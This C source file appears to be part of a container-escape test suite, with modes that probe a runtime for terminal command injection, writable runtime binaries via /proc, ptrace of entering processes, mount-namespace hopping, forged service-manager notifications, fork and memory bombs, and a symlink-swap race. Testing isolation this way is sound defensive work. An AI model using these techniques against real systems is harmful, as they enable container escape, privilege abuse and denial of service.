/* SPDX-License-Identifier: LGPL-2.1-or-later */

#include <dirent.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <linux/tiocl.h>
#include <poll.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#include "attack.h"

/* What needs somebody else to do something at the same time: the driver sees whether
 * it has worked. */

static void print_handle(const char *name, const char *path) {
        union {
                struct file_handle head;
                unsigned char bytes[sizeof(struct file_handle) + MAX_HANDLE_SZ];
        } h = { { .handle_bytes = MAX_HANDLE_SZ } };
        int mount;

        if (name_to_handle_at(AT_FDCWD, path, &h.head, &mount, AT_SYMLINK_FOLLOW) < 0)
                return;
        printf("%s=%d:", name, h.head.handle_type);
        for (unsigned i = 0; i < h.head.handle_bytes; i++)
                printf("%02x", h.head.f_handle[i]);
        printf("\n");
}

static void print_namespaces(void) {
        static const char *const names[] = { "mnt", "pid", "net", "uts", "ipc", "user", "cgroup" };

        for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
                char path[64];
                struct stat st;

                snprintf(path, sizeof(path), "/proc/self/ns/%s", names[i]);
                if (stat(path, &st) == 0)
                        printf("ns-%s=%lu\n", names[i], (unsigned long) st.st_ino);
        }
        print_handle("ns-handle", "/proc/self/ns/mnt");
}

/* On the host: says what there is to attack, and waits for its input to end. */
int mode_victim(const char *sentinel) {
        static char secret[] = SENTINEL_WORDS;
        struct sockaddr_un address = { .sun_family = AF_UNIX };
        int fd = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
        char name[64], byte;
        long key;

        prctl(PR_SET_NAME, "escape-victim");
        signal(SIGUSR1, SIG_IGN);
        snprintf(name, sizeof(name), "ctrd-escape-%d", getpid());
        strcpy(address.sun_path + 1, name);
        if (bind(fd, (struct sockaddr *) &address, (socklen_t) (offsetof(struct sockaddr_un, sun_path) + 1 + strlen(name))) < 0 ||
            listen(fd, 16) < 0)
                return 1;
        /* In a service of systemd, root's own keyring is out of reach until it is linked. */
        (void) syscall(SYS_keyctl, KEYCTL_LINK, KEY_SPEC_USER_KEYRING, KEY_SPEC_SESSION_KEYRING);
        key = syscall(SYS_add_key, "user", "ctrd-escape", secret, sizeof(secret) - 1, KEY_SPEC_USER_KEYRING);
        if (key > 0) {
                /* its user may all: what is tried is who that is */
                (void) syscall(SYS_keyctl, KEYCTL_SETPERM, key, 0x3f3f0000);
                printf("key=%ld\n", key);
        }
        print_namespaces();
        print_handle("handle", sentinel);
        printf("pid=%d\naddress=%lu\nabstract=%s\n\n", getpid(), (unsigned long) (uintptr_t) secret, name);
        fflush(stdout);
        while (read(STDIN_FILENO, &byte, 1) > 0)
                ;
        if (key > 0)
                (void) syscall(SYS_keyctl, KEYCTL_UNLINK, key, KEY_SPEC_USER_KEYRING);
        return 0;
}

/* Types a command on every terminal within reach, and tells how that went. */
int mode_terminal(void) {
        static const char *const paths[] = { "/dev/tty", "/dev/console", "/proc/self/fd/0", "/proc/self/fd/1", "/proc/self/fd/2" };
        static const char command[] = "typed-by-escape\n";

        for (size_t i = 0; i < 3 + sizeof(paths) / sizeof(*paths); i++) {
                int fd = i < 3 ? (int) i : open(paths[i - 3], O_RDWR | O_CLOEXEC | O_NONBLOCK | O_NOCTTY), r = 0;
                char selection[] = { TIOCL_PASTESEL };

                if (fd < 0 || !isatty(fd))
                        continue;
                for (const char *c = command; *c && r == 0; c++)
                        r = ioctl(fd, TIOCSTI, c) < 0 ? -errno : 0;
                printf("TIOCSTI %s: %s\n", i < 3 ? "standard" : paths[i - 3], r < 0 ? strerrorname_np(-r) : "accepted");
                r = ioctl(fd, TIOCLINUX, selection) < 0 ? -errno : 0;
                printf("TIOCLINUX %s: %s\n", i < 3 ? "standard" : paths[i - 3], r < 0 ? strerrorname_np(-r) : "accepted");
        }
        return 0;
}

/* A process that is about to become the container's: its program is not a file of
 * ours, or it is not born here. */
static int go_through(pid_t pid) {
        static const char *const files[] = { "exe", "root", "cwd", "mem", "environ", "fd", "maps", "ns/user" };
        char path[300], link[256];
        int got = 0;

        for (size_t i = 0; i < sizeof(files) / sizeof(*files); i++) {
                int fd;

                snprintf(path, sizeof(path), "/proc/%d/%s", pid, files[i]);
                if (strcmp(files[i], "root") == 0 || strcmp(files[i], "cwd") == 0) {
                        strcat(path, "/");
                        if (sees_host(AT_FDCWD, path)) {
                                printf("THROUGH %s\n", path);
                                got++;
                        }
                } else if (strcmp(files[i], "exe") == 0) {
                        ssize_t n = readlink(path, link, sizeof(link) - 1);

                        link[n > 0 ? n : 0] = 0;
                        /* The runtime's own binary: written where it can be opened so. */
                        if (!strstr(link, "ctrrun") && !strstr(link, "ctr-monitor") && !strstr(link, "memfd:"))
                                continue;
                        fd = open(path, O_WRONLY | O_CLOEXEC);
                        if (fd >= 0 || errno == ETXTBSY) {
                                printf("THROUGH %s: %s can be written\n", path, link);
                                got++;
                        } else
                                printf("saw %s: %s\n", link, strerrorname_np(errno));
                        if (fd >= 0)
                                close(fd);
                        fd = open(path, O_RDONLY | O_CLOEXEC);
                        if (fd >= 0) {
                                char again[64];

                                snprintf(again, sizeof(again), "/proc/self/fd/%d", fd);
                                for (int t = 0; t < 50; t++) {
                                        int w = open(again, O_WRONLY | O_CLOEXEC);

                                        if (w >= 0) {
                                                printf("THROUGH %s can be written when it is idle\n", link);
                                                close(w);
                                                got++;
                                                break;
                                        }
                                        if (errno != ETXTBSY)
                                                break;
                                        (void) poll(NULL, 0, 2);
                                }
                                close(fd);
                        }
                } else if (strcmp(files[i], "fd") == 0) {
                        DIR *dir = opendir(path);

                        for (struct dirent *e; dir && (e = readdir(dir));) {
                                char file[600];

                                snprintf(file, sizeof(file), "/proc/%d/fd/%s/", pid, e->d_name);
                                if (e->d_name[0] != '.' && (sees_host(AT_FDCWD, file) || (strcat(file, "../../../../../../"),
                                                                                          sees_host(AT_FDCWD, file)))) {
                                        printf("THROUGH %s\n", file);
                                        got++;
                                }
                        }
                        if (dir)
                                closedir(dir);
                }
        }
        return got;
}

static bool is_foreign(pid_t pid) {
        char path[64], text[512], *end;
        ssize_t n;
        int fd;

        /* No parent here: it has come from outside. */
        snprintf(path, sizeof(path), "/proc/%d/stat", pid);
        fd = open(path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
                return false;
        n = read(fd, text, sizeof(text) - 1);
        close(fd);
        text[n > 0 ? n : 0] = 0;
        end = strrchr(text, ')');
        return end && strncmp(end, ") ", 2) == 0 && strlen(end) > 4 && strncmp(end + 3, " 0 ", 3) == 0;
}

/* ioctl_nsfs(2), since Linux 6.12: mount namespaces of the own user namespace, of whomever.
 * Newer kernels list them for the host's init alone. */
static int through_mount_namespaces(int own) {
        struct {
                uint32_t size, mounts;
                uint64_t id;
        } info = { .size = sizeof(info) };
        const unsigned long next_previous[] = { _IOR(0xb7, 11, info), _IOR(0xb7, 12, info) };
        int got = 0;

        for (size_t i = 0; i < 2; i++) {
                int status = 0, fd = ioctl(own, next_previous[i], &info);
                pid_t pid = fd < 0 ? -1 : fork();

                if (pid == 0)
                        _exit(setns(fd, CLONE_NEWNS) == 0 && sees_host(AT_FDCWD, "/"));
                if (pid > 0 && waitpid(pid, &status, 0) == pid && status != 0) {
                        printf("THROUGH mount namespace %llu\n", (unsigned long long) info.id);
                        got++;
                }
                if (fd >= 0)
                        close(fd);
        }
        return got;
}

int mode_watch(const char *seconds) {
        int namespace = open("/proc/self/ns/mnt", O_RDONLY | O_CLOEXEC);
        time_t end = time(NULL) + atoi(seconds);
        pid_t self = getpid();
        unsigned seen = 0, got = 0;

        printf("watching\n");
        fflush(stdout);
        while (time(NULL) < end) {
                /* New processes have the next numbers; fork() tells which. */
                pid_t pid = fork();

                if (pid == 0)
                        _exit(0);
                (void) waitpid(pid, NULL, 0);
                got += (unsigned) through_mount_namespaces(namespace);
                for (pid_t p = pid + 1; p < pid + 6; p++)
                        if (p != self && is_foreign(p)) {
                                seen++;
                                got += (unsigned) go_through(p);
                                if (ptrace(PTRACE_SEIZE, p, NULL, NULL) == 0) {
                                        /* It may be the container's by now, which is ours to trace. */
                                        (void) ptrace(PTRACE_INTERRUPT, p, NULL, NULL);
                                        (void) waitpid(p, NULL, __WALL);
                                        got += (unsigned) go_through(p);
                                        (void) ptrace(PTRACE_DETACH, p, NULL, NULL);
                                }
                        }
        }
        printf("done: looked at strangers %u times, got through %u times\n", seen, got);
        return 0;
}

/* Words to the manager. Kinds: ready, stopping, status, mainpid, big, descriptors, forged (as if from init). */
int mode_notify(const char *kind) {
        struct sockaddr_un address = { .sun_family = AF_UNIX, .sun_path = "/run/host/notify" };
        static char big[1 << 17];
        union {
                struct cmsghdr head;
                char space[CMSG_SPACE(64 * sizeof(int))];
        } control = {};
        const char *text = strcmp(kind, "ready") == 0 ? "READY=1\nSTATUS=forged-by-escape" :
                           strcmp(kind, "stopping") == 0 ? "STOPPING=1\nSTATUS=forged-by-escape" :
                           strcmp(kind, "mainpid") == 0 ? "MAINPID=1\nSTATUS=forged-by-escape" :
                           "STATUS=forged-by-escape";
        struct iovec iov = { (void *) (uintptr_t) text, strlen(text) };
        struct msghdr message = { .msg_name = &address, .msg_namelen = sizeof(address), .msg_iov = &iov, .msg_iovlen = 1 };
        int fd = socket(AF_UNIX, SOCK_DGRAM | SOCK_CLOEXEC, 0), on = 1, r;

        if (strcmp(kind, "big") == 0) {
                memset(big, 'A', sizeof(big) - 1);
                memcpy(big, "STATUS=forged-by-escape", 23);
                iov = (struct iovec) { big, sizeof(big) - 1 };
                (void) setsockopt(fd, SOL_SOCKET, SO_SNDBUFFORCE, &(int) { 1 << 20 }, sizeof(int));
        }
        if (strcmp(kind, "descriptors") == 0) {
                message.msg_control = &control;
                message.msg_controllen = CMSG_SPACE(64 * sizeof(int));
                control.head = (struct cmsghdr) { CMSG_LEN(64 * sizeof(int)), SOL_SOCKET, SCM_RIGHTS };
                memset(CMSG_DATA(&control.head), 0, 64 * sizeof(int)); /* our standard input, over and over */
        }
        if (strcmp(kind, "forged") == 0) {
                struct ucred credentials = { .pid = 1, .uid = getuid(), .gid = getgid() };

                (void) setsockopt(fd, SOL_SOCKET, SO_PASSCRED, &on, sizeof(on));
                message.msg_control = &control;
                message.msg_controllen = CMSG_SPACE(sizeof(credentials));
                control.head = (struct cmsghdr) { CMSG_LEN(sizeof(credentials)), SOL_SOCKET, SCM_CREDENTIALS };
                memcpy(CMSG_DATA(&control.head), &credentials, sizeof(credentials));
        }
        r = 0;
        /* As often as one likes: nobody may be kept from hearing init, nor run out of descriptors. */
        for (int i = 0; i < 200 && r >= 0; i++)
                r = sendmsg(fd, &message, MSG_NOSIGNAL | MSG_DONTWAIT) < 0 ? -errno : 0;
        printf("%s\n", r < 0 ? strerrorname_np(-r) : "sent");
        return 0;
}

int mode_bomb(const char *kind) {
        /* The driver takes the container down; this is for a driver that has died. */
        alarm(300);
        printf("burning\n");
        fflush(stdout);
        if (strcmp(kind, "memory") == 0)
                for (;;) {
                        char *p = mmap(NULL, 1 << 20, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);

                        if (p != MAP_FAILED)
                                memset(p, 1, 1 << 20);
                }
        if (strcmp(kind, "fork") == 0)
                for (;;)
                        if (fork() == 0)
                                alarm(300);
        return 2;
}

/* A directory is a link to TARGET and a directory again, as fast as it goes. */
int mode_swap(const char *path, const char *link_target) {
        char other[512];

        snprintf(other, sizeof(other), "%s.link", path);
        (void) mkdir(path, 0755);
        (void) unlink(other);
        if (symlink(link_target, other) < 0)
                return 1;
        printf("swapping\n");
        fflush(stdout);
        alarm(60);
        while (syscall(SYS_renameat2, AT_FDCWD, path, AT_FDCWD, other, 2) == 0)
                ;
        return 1;
}
